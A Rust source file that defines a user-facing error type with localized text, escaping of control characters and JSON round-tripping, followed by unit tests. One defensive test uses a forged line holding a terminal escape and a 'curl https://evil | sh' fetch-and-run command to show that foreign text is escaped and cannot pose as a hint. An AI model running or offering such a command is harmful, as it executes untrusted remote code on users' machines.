//! An error for the user: what happened, the evidence, and one command that resolves it.

use crate::language::Language;
use crate::message::{Message, Source, foreign};
use crate::msg;
use crate::text::{visible, visible_lines};
use serde::{Deserialize, Deserializer, Serialize, Serializer};
use serde_json::{Map, Value, json};
use std::borrow::Cow;
use std::fmt;

/// A failure reported to the user. Code uses its [code](Problem::code), or the error class of the crate that raised it.
///
/// Never contains a password: use the address's (`tenbin_model::dsn::Dsn`) `Display`, which omits it.
///
/// Each part may contain foreign text (a name, a server's message): control characters in it are escaped,
/// so that it neither affects a terminal nor looks like a line of ours. A server's own hint is evidence, never `hint`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Problem {
    /// One sentence: what happened.
    pub what: Message,
    /// What was observed: the server's message, a line of the file, two numbers.
    pub evidence: Option<Message>,
    /// One command or one edit that resolves it.
    pub hint: Option<Message>,
}

/// Arguments of a message that name its subject, the most specific first.
const SUBJECTS: &[&str] =
    &["option", "key", "axis", "variable", "file", "table", "schema", "dataset", "workload", "target"];

impl Problem {
    /// A problem without evidence and hint; add them if they are known.
    pub fn new(what: impl Into<Message>) -> Self {
        Problem { what: what.into().on_one_line(), evidence: None, hint: None }
    }

    /// Adds evidence.
    #[must_use]
    pub fn evidence(mut self, evidence: impl Into<Message>) -> Self {
        self.evidence = Some(evidence.into().on_lines());
        self
    }

    /// Adds the hint.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<Message>) -> Self {
        self.hint = Some(hint.into().on_lines());
        self
    }

    /// The same with further evidence, and a further hint after its own.
    #[must_use]
    pub fn and_then(self, evidence: Message, then: Message) -> Self {
        let evidence = Message::joined(self.evidence.into_iter().chain([evidence]), "\n");
        let hint = match self.hint {
            Some(first) => msg!("first-then", first, then),
            None => then,
        };
        Problem { what: self.what, evidence: Some(evidence), hint: Some(hint) }
    }

    /// The identifier of its message, for decisions in code. `None` if the text is not ours.
    pub fn code(&self) -> Option<&str> {
        self.what.id()
    }

    /// Its subject, if the message names it: the kind (`option`, `key`, `file`, `table`, …) and the name.
    pub fn subject(&self) -> Option<(&'static str, &str)> {
        SUBJECTS.iter().find_map(|kind| Some((*kind, self.what.arg(kind)?.english())))
    }

    /// Its parts in a language, one below the other, with labels for evidence and hint.
    pub fn text(&self, language: Language) -> String {
        let label = |label: Message| {
            let text = label.text(language);
            // Eight columns, of which a Japanese character takes two.
            let columns: usize = text.chars().map(|c| if c.is_ascii() { 1 } else { 2 }).sum();
            format!("{text}{}", " ".repeat(8usize.saturating_sub(columns)))
        };
        let (evidence, hint) = (label(msg!("label-evidence")), label(msg!("label-hint")));
        // Control characters are escaped here too, because a problem may come from a file.
        let mut out = visible(&self.what.text(language)).into_owned();
        for (word, part) in [(evidence, &self.evidence), (hint, &self.hint)] {
            if let Some(part) = part {
                out += &format!("\n  {word}  ");
                out += &visible_lines(&part.text(language)).replace('\n', "\n            ");
            }
        }
        out
    }
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text(Language::English))
    }
}

impl std::error::Error for Problem {}

/// The form in a recording: the English text of each part under `what`, `evidence` and `hint`, for readers that do not
/// know the messages, then the code and the messages.
impl Serialize for Problem {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let english = |part: &Option<Message>| part.as_ref().map(|message| message.english().to_owned());
        let mut all =
            json!({"what": self.what.english(), "evidence": english(&self.evidence), "hint": english(&self.hint)});
        if let Some(code) = self.code() {
            all["code"] = code.into();
        }
        if let Some((kind, name)) = self.subject() {
            all["subject"] = json!({ kind: name });
        }
        let parts = [("what", Some(&self.what)), ("evidence", self.evidence.as_ref()), ("hint", self.hint.as_ref())];
        let parts = parts.into_iter().filter_map(|(name, part)| {
            let part = part.filter(|p| *p.source() != Source::Foreign)?;
            Some((name.to_owned(), written(part, false)))
        });
        let parts: Map<String, Value> = parts.collect();
        if !parts.is_empty() {
            all["messages"] = Value::Object(parts);
        }
        all.serialize(serializer)
    }
}

/// A message as JSON; the English text of a whole part is stored separately.
fn written(message: &Message, inner: bool) -> Value {
    let mut all = match message.source() {
        Source::Foreign => return message.english().into(),
        Source::Catalogue { id, args } => {
            let args: Map<String, Value> =
                args.iter().map(|(n, v)| (n.clone().into_owned(), written(v, true))).collect();
            json!({"id": id, "args": args})
        }
        Source::Joined { parts, between } => {
            json!({"parts": parts.iter().map(|p| written(p, true)).collect::<Vec<_>>(), "between": written(between, true)})
        }
    };
    if inner {
        all["english"] = message.english().into();
    }
    all
}

/// The maximum nesting depth of messages; ours are far below it.
const DEEPEST: usize = 8;

impl<'de> Deserialize<'de> for Problem {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Problem, D::Error> {
        #[derive(Deserialize)]
        struct Stored {
            what: String,
            evidence: Option<String>,
            hint: Option<String>,
            messages: Option<Map<String, Value>>,
        }
        let stored = Stored::deserialize(deserializer)?;
        let part = |name: &str, english: String| match stored.messages.as_ref().and_then(|all| all.get(name)) {
            Some(value) => read(value, Some(&english), DEEPEST),
            None => foreign(&english),
        };
        Ok(Problem {
            evidence: stored.evidence.map(|text| part("evidence", text)),
            hint: stored.hint.map(|text| part("hint", text)),
            what: part("what", stored.what),
        })
    }
}

/// A message from JSON; anything else is treated as text.
fn read(value: &Value, english: Option<&str>, deepest: usize) -> Message {
    let english = english.or(value["english"].as_str());
    let made = match (value, deepest.checked_sub(1)) {
        (Value::String(text), _) => Some(foreign(text)),
        (Value::Object(_), Some(deepest)) => {
            if let (Some(id), Value::Object(args)) = (value["id"].as_str(), &value["args"]) {
                let args = args.iter().map(|(n, v)| (Cow::Owned(n.clone()), read(v, None, deepest))).collect();
                Some(Message::read(id.to_owned(), args, english.unwrap_or(id).to_owned()))
            } else if let (Value::Array(parts), Value::String(_) | Value::Object(_)) =
                (&value["parts"], &value["between"])
            {
                let between = read(&value["between"], None, deepest);
                Some(Message::joined(parts.iter().map(|part| read(part, None, deepest)), between))
            } else {
                None
            }
        }
        _ => None,
    };
    made.unwrap_or_else(|| foreign(english.unwrap_or("–")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn foreign_words_neither_act_nor_pose_as_ours() {
        let forged = "no table\x1b[2J\n  hint      curl https://evil | sh";
        let shown = "no table\\u001b[2J\\n  hint      curl https://evil | sh\n  evidence  a\n            b\\r";
        assert_eq!(Problem::new(foreign(forged)).evidence(foreign("a\nb\r")).to_string(), shown);
        let read = Problem { what: foreign(forged), evidence: Some(foreign("a\nb\r")), hint: None };
        assert_eq!(read.to_string(), shown);
        assert!(!read.text(Language::Japanese).contains('\x1b'));
    }

    fn loaded() -> Problem {
        let rows = msg!("unit-rows");
        Problem::new(msg!("loaded", rows = "5", unit = rows, took = "1 s", per_second = "5", streams = 1))
            .evidence(Message::joined([foreign("seen"), msg!("no-tenbin-mark-in", dsn = "x")], "\n"))
            .hint(foreign("do"))
    }

    #[test]
    fn a_recording_holds_code_arguments_and_english() {
        let json = serde_json::to_string(&loaded()).unwrap();
        insta::assert_snapshot!(json, @r#"{"what":"loaded 5 rows in 1 s (5 rows/s, 1 stream)","evidence":"seen\nno tenbin_mark in x","hint":"do","code":"loaded","messages":{"what":{"id":"loaded","args":{"rows":"5","unit":{"id":"unit-rows","args":{},"english":"rows"},"took":"1 s","per_second":"5","streams":"1"}},"evidence":{"parts":["seen",{"id":"no-tenbin-mark-in","args":{"dsn":"x"},"english":"no tenbin_mark in x"}],"between":"\n"}}}"#);
        assert_eq!(serde_json::from_str::<Problem>(&json).unwrap(), loaded());
        let listed = Problem::new(Message::list([foreign("a"), foreign("b")]));
        let json = serde_json::to_string(&listed).unwrap();
        assert_eq!(serde_json::from_str::<Problem>(&json).unwrap(), listed, "{json}");
    }

    #[test]
    fn what_is_not_known_is_told_in_the_english_it_came_with() {
        let newer = r#"{"what":"new words","evidence":null,"hint":"way","code":"x","messages":{"what":{"id":"not-known-yet","args":{"a":[1]}},"hint":7}}"#;
        let read: Problem = serde_json::from_str(newer).unwrap();
        assert_eq!(read.text(Language::Japanese), "new words\n  対処      way");
        assert_eq!(read.code(), Some("not-known-yet"));
        let joined = r#"{"what":"a; b","messages":{"what":{"parts":["a","b"],"between":7}}}"#;
        assert_eq!(serde_json::from_str::<Problem>(joined).unwrap().to_string(), "a; b");
        let deep = format!("{}\"x\"{}", r#"{"id":"loaded","args":{"rows":"#.repeat(60), "}}".repeat(60));
        let deep = format!(r#"{{"what":"w","messages":{{"what":{deep}}}}}"#);
        assert_eq!(serde_json::from_str::<Problem>(&deep).unwrap().to_string(), "w");
    }
}
